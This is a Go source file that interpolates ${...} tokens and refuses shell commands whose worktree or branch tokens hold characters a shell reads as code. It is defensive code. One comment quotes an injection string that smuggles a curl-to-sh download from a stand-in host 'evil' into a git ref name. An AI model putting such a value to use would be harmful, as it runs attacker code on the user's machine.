package world

import (
	"fmt"
	"strings"
)

// Lookup resolves the inside of a ${...} token ("api.port", "env.HOME"). It
// reports false for a token it does not know, which Interpolate then leaves
// untouched: a literal ${self.port} reaching a shell fails loudly, where a
// blank would fail in some confusing way later.
type Lookup func(ref string) (string, bool)

// Interpolate replaces every ${ref} in s that lookup knows. "$${" writes a
// literal "${". It never fails: malformed or unknown tokens stay as written.
func Interpolate(s string, lookup Lookup) string {
	if !strings.Contains(s, "${") {
		return s
	}
	var b strings.Builder
	b.Grow(len(s))
	for {
		i := strings.Index(s, "${")
		if i < 0 {
			b.WriteString(s)
			return b.String()
		}
		if i > 0 && s[i-1] == '$' {
			// "$${" is an escaped "${".
			b.WriteString(s[:i-1])
			b.WriteString("${")
			s = s[i+2:]
			continue
		}
		b.WriteString(s[:i])
		end := strings.IndexByte(s[i+2:], '}')
		if end < 0 {
			b.WriteString(s[i:])
			return b.String()
		}
		ref := s[i+2 : i+2+end]
		if v, ok := lookup(ref); ok {
			b.WriteString(v)
		} else {
			b.WriteString(s[i : i+3+end])
		}
		s = s[i+3+end:]
	}
}

// InterpolateShell is Interpolate for a command that /bin/sh runs.
// Worktree names, branches and paths are chosen outside the approved
// binky.toml: an agent may name a branch after an issue's title, and git
// accepts 'x$(curl${IFS}evil|sh)' as a ref. Pasted into a command, a
// character a shell reads as code would run as code, and no quoting is
// right everywhere a token may stand (a heredoc, "$(...)", sh -c '...').
// So a command whose ${worktree.*} token (or an ${env.NAME} whose value
// carries such a name, as BINKY_WORKTREE does) holds such a character is
// refused, with the way that is always safe: the shell's own variable,
// "$BINKY_BRANCH", which a shell never reads as code. Names of plain
// characters, spaces and non-ASCII letters (all real ones) are written
// as they are, as Interpolate does.
func InterpolateShell(s string, lookup Lookup) (string, error) {
	var tainted []string
	for _, ref := range worktreeTokens {
		if v, ok := lookup(ref); ok && !inert(v) {
			tainted = append(tainted, v)
		}
	}
	for _, ref := range Tokens(s) {
		if len(tainted) == 0 {
			break
		}
		v, ok := lookup(ref)
		if !ok {
			continue
		}
		variable, unsafe := shellVariables[ref], !inert(v)
		if name, isEnv := strings.CutPrefix(ref, "env."); isEnv {
			variable, unsafe = name, carries(v, tainted)
		}
		if variable != "" && unsafe {
			return "", &UnsafeTokenError{Token: ref, Value: v, Variable: variable}
		}
	}
	return Interpolate(s, lookup), nil
}

// worktreeTokens are the tokens whose values are names chosen outside
// binky.toml, and shellVariables what a command says instead.
var (
	worktreeTokens = []string{"worktree.name", "worktree.branch", "worktree.path"}
	shellVariables = map[string]string{"worktree.name": "BINKY_WORKTREE", "worktree.branch": "BINKY_BRANCH", "worktree.path": "BINKY_WORKTREE_PATH"}
)

// UnsafeTokenError is a command refused because a token's value would be
// read by the shell as code.
type UnsafeTokenError struct {
	Token, Value, Variable string
}

func (e *UnsafeTokenError) Error() string {
	return fmt.Sprintf("${%s} is %q, which a shell would read as code (it holds %q), so binky does not paste it into a command: "+
		"write \"$%s\" there instead (the shell's own variable, never read as code), or rename the worktree or branch",
		e.Token, e.Value, firstUnsafe(e.Value), e.Variable)
}

// inert reports whether v means only itself to a shell wherever it is
// pasted: plain characters, spaces and bytes of non-ASCII letters.
func inert(v string) bool {
	return firstUnsafe(v) == ""
}

func firstUnsafe(v string) string {
	for i := 0; i < len(v); i++ {
		if c := v[i]; c != ' ' && c < 0x80 && !plainByte(c) {
			return v[i : i+1]
		}
	}
	return ""
}

// carries reports whether v holds any of the names.
func carries(v string, names []string) bool {
	for _, n := range names {
		if n != "" && strings.Contains(v, n) {
			return true
		}
	}
	return false
}

// plainByte reports whether c means the same to a shell in every
// position: no character a shell treats specially.
func plainByte(c byte) bool {
	return 'a' <= c && c <= 'z' || 'A' <= c && c <= 'Z' || '0' <= c && c <= '9' || strings.IndexByte("_./:@%+=,-", c) >= 0
}

// Tokens returns the refs of every ${...} token in s, in order, skipping
// escaped ones.
func Tokens(s string) []string {
	var refs []string
	for {
		i := strings.Index(s, "${")
		if i < 0 {
			return refs
		}
		if i > 0 && s[i-1] == '$' {
			s = s[i+2:]
			continue
		}
		end := strings.IndexByte(s[i+2:], '}')
		if end < 0 {
			return refs
		}
		refs = append(refs, s[i+2:i+2+end])
		s = s[i+3+end:]
	}
}
